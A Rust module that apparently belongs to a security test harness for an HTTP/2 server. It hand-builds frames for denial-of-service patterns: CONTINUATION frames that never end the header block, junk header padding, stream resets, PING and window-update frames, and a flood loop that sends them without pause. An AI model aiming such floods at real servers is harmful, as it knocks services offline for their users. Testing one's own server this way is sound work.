//! HTTP/2 by hand: frames as a client may send them that means no good.

use crate::wire::{Stream, Target};
use std::io;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// One frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// A header field as HPACK writes one that no table knows: `literal header field without indexing, new name`.
fn field(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        integer(block, text.len());
        block.extend_from_slice(text.as_bytes());
    }
}

/// HPACK's integer with a prefix of seven bits, the eighth clear.
fn integer(block: &mut Vec<u8>, mut value: usize) {
    if value < 127 {
        return block.push(value as u8);
    }
    block.push(127);
    value -= 127;
    while value >= 128 {
        block.push((value % 128) as u8 | 128);
        value /= 128;
    }
    block.push(value as u8);
}

/// The block of a request's header fields.
pub fn block(method: &str, path: &str, token: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    let own = [(":method", method), (":scheme", "https"), (":authority", "sampan"), (":path", path)];
    own.iter().for_each(|(name, value)| field(&mut block, name, value));
    if !token.is_empty() {
        field(&mut block, "authorization", &format!("Bearer {token}"));
    }
    more.iter().for_each(|(name, value)| field(&mut block, name, value));
    block
}

/// HEADERS that begin and end a request.
pub fn headers(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
}

/// HEADERS of a request with a body.
pub fn headers_before_data(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, block)
}

/// HEADERS that more header fields follow.
pub fn begun_headers(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM, stream, block)
}

/// More of them, and again not the last.
pub fn continuation(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(CONTINUATION, 0, stream, block)
}

/// Fields of `count` bytes or more that belong to nothing.
pub fn padding(count: usize) -> Vec<u8> {
    let mut block = Vec::new();
    while block.len() < count {
        field(&mut block, "x-a", "b");
    }
    block
}

pub fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
}

pub fn data(stream: u32, bytes: &[u8]) -> Vec<u8> {
    frame(DATA, 0, stream, bytes)
}

pub fn ping() -> Vec<u8> {
    frame(PING, 0, 0, b"attacker")
}

pub fn window_update(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes())
}

pub fn priority(stream: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 7])
}

/// Settings that open windows of so many bytes.
pub fn settings(window: u32) -> Vec<u8> {
    let mut payload = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    payload.extend_from_slice(&window.to_be_bytes());
    frame(SETTINGS, 0, 0, &payload)
}

/// A connection whose streams may be sent `window` bytes each.
pub async fn connect(target: &Target, window: u32) -> io::Result<Stream> {
    let mut stream = target.open_two().await?;
    let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    first.extend(settings(window));
    stream.write_all(&first).await?;
    stream.flush().await?;
    Ok(stream)
}

/// Takes what comes and answers what has to be answered (SETTINGS, PING), until the connection ends. Returns how many
/// streams were answered with a head.
pub async fn attend(stream: &mut Stream) -> io::Result<usize> {
    let mut bytes = Vec::with_capacity(64 * 1024);
    let mut answered = 0;
    loop {
        let mut taken = 0;
        while let Some(head) = bytes.get(taken..taken + 9) {
            let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let (kind, flags) = (head[3], head[4]);
            let Some(payload) = bytes.get(taken + 9..taken + 9 + length) else { break };
            let reply = match kind {
                SETTINGS | PING if flags & ACK == 0 => {
                    Some(frame(kind, ACK, 0, if kind == PING { payload } else { &[] }))
                }
                HEADERS => {
                    answered += 1;
                    None
                }
                _ => None,
            };
            taken += 9 + length;
            if let Some(reply) = reply {
                stream.write_all(&reply).await?;
                stream.flush().await?;
            }
        }
        bytes.drain(..taken);
        if stream.read_buf(&mut bytes).await? == 0 {
            return Ok(answered);
        }
    }
}

/// Sends the same again and again, and throws away what comes, until the connection ends.
pub async fn flood(stream: Stream, mut next: impl FnMut() -> Vec<u8>) -> io::Result<()> {
    let (mut read, mut write) = tokio::io::split(stream);
    let take = async {
        let mut sink = vec![0; 64 * 1024];
        while read.read(&mut sink).await? > 0 {}
        Ok(())
    };
    let send = async {
        loop {
            write.write_all(&next()).await?;
            write.flush().await?;
        }
    };
    tokio::select! {
        ended = take => ended,
        failed = send => failed,
    }
}
